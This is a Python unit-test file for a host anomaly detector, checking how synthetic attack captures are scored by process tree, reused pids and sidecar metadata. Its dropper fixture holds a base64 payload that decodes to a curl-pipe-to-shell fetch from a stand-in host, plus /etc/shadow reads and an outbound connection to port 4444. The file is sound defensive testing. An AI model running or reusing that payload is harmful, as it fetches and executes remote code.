"""Attack captures are system-wide: with a sidecar, only the attack's own process tree counts for it.

The captures are built synthetically (like ``anomaly_support``): a shell runs a benign ``ls`` as pid 5000,
later pid 5000 is reused by the attack's root, whose grandchild (after its parent exited) runs a dropped
binary; an unrelated process outside the tree does something just as unusual.
"""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest

from sentinel.anomaly import features
from sentinel.anomaly.evaluate import (
    CLK_TCK,
    AttackTree,
    attack_instance,
    attack_tree,
    evaluate,
    sidecar_path,
)
from sentinel.anomaly.features import INDEX
from sentinel.anomaly.model import Model, load_model
from sentinel.anomaly.profiles import HOST as HOST_SUBJECT
from sentinel.anomaly.profiles import ProfileState
from sentinel.anomaly.train import capture_rows, train
from sentinel.capture import CaptureWriter, capture_header
from sentinel.events import AF_INET, EventType
from tests.unit.anomaly_support import HOST, INIT, SHELL, S, ev, write_baseline

T0 = 3 * 86_400 * S  # after the two-day baseline
T_LS = T0 + 10 * S  # pid 5000, first life: a benign ls
T_ROOT = T0 + 100 * S  # pid 5000 again: the attack's root
T_OTHER = T0 + 50 * S  # pid 7000: an unusual process that is not the attack
LS = ["ls", "-la"]
PAYLOAD = "ZWNobyBoZWxsbzsgY3VybCBodHRwOi8vMjAzLjAuMTEzLjkvc2ggfCBzaA=="


def ticks(ts_ns: int) -> int:
    return ts_ns * CLK_TCK // 1_000_000_000


def baseline_state(model: Model) -> ProfileState:
    """A copy: capture_rows learns into the state it is given, and the model is shared by the tests."""
    assert model.profiles is not None
    return model.profiles.copy()


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> Model:
    d = tmp_path_factory.mktemp("m")
    train([write_baseline(d / "base.cap")], d / "model", trees=50)
    return load_model(d / "model")


def _dropped(w: CaptureWriter, t: int, pid: int, exe: str) -> None:
    """``pid`` (already forked) runs a dropped binary with an encoded payload, reads shadow, connects out."""
    argv = [exe, "-e", PAYLOAD, "203.0.113.9"]
    comm = exe.rsplit("/", 1)[1]
    w.write_event(ev(EventType.EXEC, t, pid, comm=comm, filename=exe, argv=argv, argc_total=len(argv)))
    w.write_event(ev(EventType.OPEN, t + 1, pid, comm=comm, path="/etc/shadow", ret=-13))
    w.write_event(ev(EventType.CONNECT, t + 2, pid, comm=comm, fd=3, family=AF_INET, address="203.0.113.9",
                     port=4444, sock_type=1, ret=-115))  # fmt: skip
    w.write_event(ev(EventType.EXIT, t + 3, pid, comm=comm))


def write_attack_capture(path: Path, other_exe: str = "/var/tmp/.z") -> Path:
    """The capture described in the module docstring; ``other_exe`` is what the unrelated process runs."""
    with CaptureWriter(path, capture_header("test", host=HOST.to_dict())) as w:
        w.write_facts(INIT)
        w.write_facts(SHELL)
        w.write_snapshot_end(T0)
        # pid 5000, first life: ls, as the baseline ran it many times
        w.write_event(ev(EventType.FORK, T_LS, 100, child_pid=5000))
        w.write_event(
            ev(EventType.EXEC, T_LS + 1, 5000, comm="ls", filename="/usr/bin/ls", argv=LS, argc_total=2)
        )
        w.write_event(ev(EventType.OPEN, T_LS + 2, 5000, comm="ls", path="/home/u/notes.txt", ret=3))
        w.write_event(ev(EventType.EXIT, T_LS + 3, 5000, comm="ls"))
        # pid 7000: outside any attack tree, yet as unusual as the attack
        w.write_event(ev(EventType.FORK, T_OTHER, 100, child_pid=7000))
        _dropped(w, T_OTHER + 1, 7000, other_exe)
        # pid 5000 reused: the attack's root, a child that exits, and the grandchild it left behind
        w.write_event(ev(EventType.FORK, T_ROOT, 100, child_pid=5000))
        w.write_event(
            ev(EventType.EXEC, T_ROOT + 1, 5000, comm="ls", filename="/usr/bin/ls", argv=LS, argc_total=2)
        )
        w.write_event(ev(EventType.FORK, T_ROOT + 2, 5000, comm="ls", child_pid=5001))
        w.write_event(ev(EventType.FORK, T_ROOT + 3, 5001, comm="ls", child_pid=5002))
        w.write_event(ev(EventType.EXIT, T_ROOT + 4, 5001, comm="ls"))
        _dropped(w, T_ROOT + 5, 5002, "/dev/shm/.y")
        w.write_event(ev(EventType.EXIT, T_ROOT + 10, 5000, comm="ls"))
    return path


def sidecar(cap: Path, **fields: object) -> None:
    sidecar_path(cap).write_text(json.dumps({"scenario": "dropper", **fields}))


def test_without_sidecar_the_whole_capture_is_one_instance(model: Model, tmp_path: Path) -> None:
    cap = write_attack_capture(tmp_path / "a.cap")
    inst = attack_instance(model, cap)
    rows = capture_rows([cap], state=baseline_state(model))
    assert inst.scenario == "a.cap" and inst.events == rows.x.shape[0]
    assert inst.detected  # the unrelated process alone makes the whole capture "detected"


def test_only_the_roots_tree_counts(model: Model, tmp_path: Path) -> None:
    cap = write_attack_capture(tmp_path / "a.cap")
    sidecar(cap, root_pid=5000, root_start_ticks=ticks(T_ROOT))
    inst = attack_instance(model, cap)
    assert inst.scenario == "dropper"
    assert inst.events == 4  # the root's exec and the grandchild's exec, open and connect
    assert inst.detected  # through the grandchild, whose parent had already exited


def test_a_reused_pid_is_not_the_root(model: Model, tmp_path: Path) -> None:
    cap = write_attack_capture(tmp_path / "a.cap")
    sidecar(cap, root_pid=5000, root_start_ticks=ticks(T_LS))  # the earlier, benign holder of the pid
    benign = attack_instance(model, cap)
    assert benign.events == 2  # the ls run's exec and open only
    assert not benign.detected  # the unusual process outside the tree does not count for it
    sidecar(cap, root_pid=5000)  # no start time: every process that held the pid roots a tree
    assert attack_instance(model, cap).events == 6


def test_profiles_still_learn_from_events_outside_the_tree(
    model: Model, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The unrelated process ran the attack's binary first: the attack then looks less new, as live."""
    monkeypatch.setattr(features, "NEWS_LEVEL", 0.0)  # every novelty in the rows: the small baseline's too
    fresh = write_attack_capture(tmp_path / "fresh.cap")
    seen = write_attack_capture(tmp_path / "seen.cap", other_exe="/dev/shm/.y")
    tree = AttackTree("dropper", 5000, ticks(T_ROOT))
    new_exe = {}
    for cap in (fresh, seen):
        rows = capture_rows([cap], state=baseline_state(model), row_tag=lambda e, p: tree.contains(p))
        assert rows.tags is not None and len(rows.tags) == rows.x.shape[0]  # a tag for every row
        in_tree = rows.x[np.array(rows.tags, dtype=bool)]
        assert in_tree.shape[0] == 4
        dropped_exec = in_tree[1]  # the grandchild's exec of /dev/shm/.y
        assert dropped_exec[INDEX["type_exec"]] == 1.0
        new_exe[cap.name] = dropped_exec[INDEX["new_exe"]]
        seen_count = rows.extractor.state.tables["exe"].count(HOST_SUBJECT, "/dev/shm/.y")
        assert seen_count == (2 if cap is seen else 1)
    assert new_exe["seen.cap"] == 0.0 < new_exe["fresh.cap"]


def test_missing_root_is_a_miss_and_evaluate_reports_instances(model: Model, tmp_path: Path) -> None:
    hit = write_attack_capture(tmp_path / "hit.cap")
    sidecar(hit, root_pid=5000, root_start_ticks=ticks(T_ROOT))
    gone = write_attack_capture(tmp_path / "gone.cap")
    sidecar_path(gone).write_text(json.dumps({"scenario": "never_ran", "root_pid": 424242}))
    assert attack_instance(model, gone).top_margin == float("-inf")
    normal = write_baseline(tmp_path / "n.cap", runs=60, span_s=86_400)
    report = evaluate(model, [normal], [hit, gone])
    assert report.attack_instances == 2
    assert report.detected == {"dropper": True, "never_ran": False}
    assert report.detected_at_threshold == 0.5
    out = report.to_dict()
    assert out["instances"][1]["top_margin"] is None and out["instances"][1]["events"] == 0
    json.dumps(out)  # JSON-safe: no infinities
    assert np.isfinite(report.auc)


@pytest.mark.parametrize(
    "text",
    ["not json", "[1]", '{"root_pid": "one"}', '{"root_pid": true}', '{"root_pid": 0}',
     '{"root_pid": 5, "root_start_ticks": -1}'],
)  # fmt: skip
def test_bad_sidecar_is_an_error(tmp_path: Path, text: str) -> None:
    cap = tmp_path / "x.cap"
    sidecar_path(cap).write_text(text)
    with pytest.raises(ValueError, match=r"x\.cap\.attack\.json"):
        attack_tree(cap)
    assert attack_tree(tmp_path / "none.cap") is None
